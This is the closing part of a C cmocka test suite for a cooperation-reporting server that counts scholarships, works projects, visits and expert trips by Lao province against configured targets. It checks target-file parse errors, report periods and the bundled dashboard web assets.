	for (int i = 0; i < 4; i++) {
		char id[40], f[256];
		snprintf(id, sizeof id, "63%030d", i);
		snprintf(f, sizeof f, "{\"province\":\"%s\",\"academic_year\":"
			 "\"2026-2027\",\"level\":\"university\",\"school\":"
			 "\"Trường Đại học Quy Nhơn\",\"awarded\":%d}", prov[i],
			 i == 3 ? 12 : 20);
		add(in, "scholarship", id, "2026-07-01", f);
	}
	add(in, "scholarship", "63100000000000000000000000000000",
	    "2025-07-01", "{\"province\":\"Attapeu\",\"academic_year\":"
	    "\"2025-2026\",\"level\":\"college\",\"school\":\"X\","
	    "\"awarded\":20}");
	add(in, "work", "64000000000000000000000000000001", "2026-03-01",
	    "{\"province\":\"Attapeu\",\"name\":\"A\",\"sector\":\"health\","
	    "\"budget\":10000000000}");
	add(in, "work", "64000000000000000000000000000002", "2026-03-01",
	    "{\"province\":\"Champasak\",\"name\":\"C\",\"sector\":"
	    "\"education\",\"budget\":12000000000}");
	add(in, "work", "64000000000000000000000000000003", "2026-06-01",
	    "{\"province\":\"Salavan\",\"name\":\"S\",\"sector\":"
	    "\"education\",\"budget\":4000000000}");
	assert_int_equal(srv_targets_parse(srv_targets_default_text,
					   srv_targets_default_len,
					   "targets.default", &t, msg,
					   sizeof msg), 0);
	memset(&p, 0, sizeof p);
	assert_int_equal(srv_period_parse("2026H2", &p.period, msg,
					  sizeof msg), 0);
	p.now_ms = ms_of("2026-11-05");
	p.targets = t;
	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);
	items = at(at(doc, "targets"), "items");
	x = find(items, "name", "scholarships-per-province");
	assert_int_equal(num(x, "expected"), 80);
	assert_int_equal(num(x, "actual"), 72);
	assert_int_equal(num(x, "cells_met"), 3);
	assert_string_equal(str(x, "status"), "pending");
	x = find(at(x, "cell_list"), "unit", "Sekong");
	assert_int_equal(num(x, "actual"), 12);
	assert_false(cJSON_IsTrue(at(x, "met")));
	x = find(items, "name", "works-per-province");
	assert_string_equal(str(at(x, "window"), "from"), "2026-01-01");
	assert_string_equal(str(at(x, "window"), "to"), "2030-12-31");
	assert_int_equal(num(x, "expected"), 4);
	assert_int_equal(num(x, "actual"), 3);
	assert_string_equal(str(x, "status"), "pending");
	x = find(items, "name", "works-budget");
	assert_true(num(x, "expected") == 40000000000.0);
	assert_true(num(x, "actual") == 24000000000.0);
	assert_int_equal(num(x, "cells_met"), 2);
	/* The scholarships and works are no visits or trips. */
	assert_int_equal(num(at(doc, "summary"), "visits"), 0);
	assert_int_equal(num(at(doc, "totals"), "trips"), 0);
	cJSON_Delete(doc);

	/* The 2025 report: the 2025-2026 batch alone; Attapeu met. */
	assert_int_equal(srv_period_parse("2025H2", &p.period, msg,
					  sizeof msg), 0);
	p.now_ms = ms_of("2026-01-05");
	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);
	x = find(at(at(doc, "targets"), "items"), "name",
		 "scholarships-per-province");
	/* 2025 is outside years=2026-2030: not applicable. */
	assert_string_equal(str(x, "status"), "not-applicable");
	cJSON_Delete(doc);
	srv_targets_free(t);
	srv_report_input_free(in);
}

/* ---- tests: targets file ------------------------------------------------- */

static void expect_parse_error(const char *text, const char *want)
{
	srv_targets *t = (srv_targets *)1;
	char msg[512];

	assert_int_equal(srv_targets_parse(text, strlen(text), "t.txt", &t,
					   msg, sizeof msg), -1);
	assert_null(t);
	if (strcmp(msg, want) != 0)
		fail_msg("got  \"%s\"\nwant \"%s\"", msg, want);
}

static void test_targets_default_parses(void **state)
{
	srv_targets *t = NULL;
	char msg[256];

	(void)state;
	assert_int_equal(srv_targets_parse(srv_targets_default_text,
					   srv_targets_default_len,
					   "targets.default", &t, msg,
					   sizeof msg), 0);
	assert_int_equal(srv_targets_count(t), 8);
	srv_targets_free(t);
	/* comments, blank lines, CRLF, quotes, aliases ("y tế", "inbound") */
	{
		const char *ok = "\xEF\xBB\xBF# HQ file\r\n\r\n"
				 "target a count=members direction=inbound "
				 "sector=\"y tế\" per=year min=3 # note\r\n";
		assert_int_equal(srv_targets_parse(ok, strlen(ok), "x", &t, msg,
						   sizeof msg), 0);
		assert_int_equal(srv_targets_count(t), 1);
		srv_targets_free(t);
	}
}

static void test_targets_errors(void **state)
{
	(void)state;
	/* "target x count=trips per=year min=0": min's value starts at
	** column 35 (7 + 2 + 12 + 9 + 4 = 34 characters before it) */
	expect_parse_error("target x count=trips per=year min=0\n",
			   "t.txt:1:35: min must be a whole number from 1 to "
			   "10000000000000, not \"0\"");
	expect_parse_error("target w count=works per=years min=1\n",
			   "t.txt:1:1: target \"w\": per=years needs "
			   "years=FIRST-LAST, the one window it counts over");
	expect_parse_error("target s count=scholarships each=direction "
			   "per=year min=1\n",
			   "t.txt:1:1: target \"s\": count=scholarships has no "
			   "direction; high-level, alternate, each=direction "
			   "and direction= apply to visits only");
	/* line 3 after a comment and a blank line; "mn" at column 31 */
	expect_parse_error("# comment\n\n"
			   "target x count=trips per=year mn=1\n",
			   "t.txt:3:31: unknown key \"mn\"; allowed: count, "
			   "per, min, each, direction, sector, province, "
			   "high-level, from, alternate, years, label");
	/* columns count characters, not bytes: `label="Đoàn y tế"` takes
	** columns 23..39, so "sektor" starts at 41 (its byte offset is 44) */
	expect_parse_error("target y count=visits label=\"Đoàn y tế\" "
			   "sektor=health per=year min=1",
			   "t.txt:1:41: unknown key \"sektor\"; allowed: count, "
			   "per, min, each, direction, sector, province, "
			   "high-level, from, alternate, years, label");
	expect_parse_error("target z count=visits sector=healthy per=year "
			   "min=1\n",
			   "t.txt:1:30: unknown sector \"healthy\"; allowed: "
			   "politics, education, health, investment, "
			   "industry-trade, agriculture, science-technology, "
			   "culture-sports-tourism, foreign-affairs, "
			   "defence-security, justice, youth, "
			   "friendship-works");
	expect_parse_error("target q count=visits label=\"open per=year\n",
			   "t.txt:1:29: this quote is never closed (a value "
			   "cannot contain '\"')");
	expect_parse_error("target a count=trips per=year min=1\n"
			   "target a count=visits per=year min=1\n",
			   "t.txt:2:8: target \"a\" is defined twice");
	expect_parse_error("target a count=trips per=year\n",
			   "t.txt:1:1: target \"a\" needs min= (the least "
			   "number)");
	expect_parse_error("target a count=trips direction=in per=year "
			   "min=1\n",
			   "t.txt:1:1: target \"a\": count=trips counts expert "
			   "trips, which always go out from Gia Lai; "
			   "high-level, alternate, each=direction and "
			   "direction=in apply to visits only");
	expect_parse_error("target a count=visits per=2years min=1\n",
			   "t.txt:1:1: target \"a\": per=2years needs "
			   "from=YEAR, the first year of the first window");
	expect_parse_error("goal a count=visits\n",
			   "t.txt:1:1: unknown statement \"goal\"; a line "
			   "starts with \"target\" or \"high-level\"");
	expect_parse_error("high-level rank=minister\n",
			   "t.txt:1:12: expected \"high-level sector=SECTOR\" "
			   "or \"high-level title=WORD\" (one per line)");
	/* a byte that is not UTF-8 (Latin-1 "é") at column 20 */
	expect_parse_error("target a label=\"caf\xE9\" count=visits\n",
			   "t.txt:1:20: not valid UTF-8 text (save the file "
			   "as UTF-8)");
	expect_parse_error("target a count=visits per=year min=1 "
			   "years=2030-2026\n",
			   "t.txt:1:44: years must read FIRST-LAST with "
			   "FIRST <= LAST, e.g. 2026-2030");
}

/* The dashboard files are built into the library: one lookup per file,
** with the content type a browser needs and the ids app.js relies on. */
static void test_web_assets(void **state)
{
	const srv_web_asset *a;

	(void)state;
	a = srv_web_asset_find("/index.html");
	assert_non_null(a);
	assert_string_equal(a->type, "text/html; charset=utf-8");
	assert_int_equal(strlen(a->data), a->len);
	assert_non_null(strstr(a->data, "id=\"province-table\""));
	assert_non_null(strstr(a->data, "<script src=\"/app.js\" defer>"));
	a = srv_web_asset_find("/login.html");
	assert_non_null(a);
	assert_non_null(strstr(a->data, "id=\"login-form\""));
	a = srv_web_asset_find("/app.js");
	assert_non_null(a);
	assert_string_equal(a->type, "text/javascript; charset=utf-8");
	assert_non_null(strstr(a->data, "'/api/report'"));
	assert_non_null(srv_web_asset_find("/app.css"));
	/* no CDN, no external font: nothing is fetched from another host
	** (the SVG namespace names a standard, it is never fetched) */
	for (size_t i = 0; i < srv_web_nassets; i++) {
		const char *d = srv_web_assets[i].data;
		static const char ns[] = "http://www.w3.org/2000/svg";
		while ((d = strstr(d, "http://")) != NULL) {
			assert_memory_equal(d, ns, sizeof(ns) - 1);
			d += sizeof(ns) - 1;
		}
		assert_null(strstr(srv_web_assets[i].data, "https://"));
	}
	assert_null(srv_web_asset_find("/"));
	assert_null(srv_web_asset_find("/../report.c"));
	/* the default targets file is the one HQ reads */
	assert_non_null(strstr(srv_targets_default_text,
			       "target medical-experts "));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_periods),
		cmocka_unit_test(test_display_width),
		cmocka_unit_test(test_targets_default_parses),
		cmocka_unit_test(test_targets_errors),
		cmocka_unit_test(test_web_assets),
		cmocka_unit_test(test_csv_formulas),
		cmocka_unit_test(test_education_and_works),
		cmocka_unit_test(test_targets_scholarships_works),
		cmocka_unit_test_setup_teardown(test_json_header_and_summary,
						setup, teardown),
		cmocka_unit_test_setup_teardown(
			test_json_by_province_and_sector, setup, teardown),
		cmocka_unit_test_setup_teardown(test_json_models, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_json_lists, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_json_targets, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_targets_error, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_json_devices, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_filters, setup, teardown),
		cmocka_unit_test_setup_teardown(test_csv, setup, teardown),
		cmocka_unit_test_setup_teardown(test_csv_table, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_table, setup, teardown),
		cmocka_unit_test_setup_teardown(test_table_json, setup,
						teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
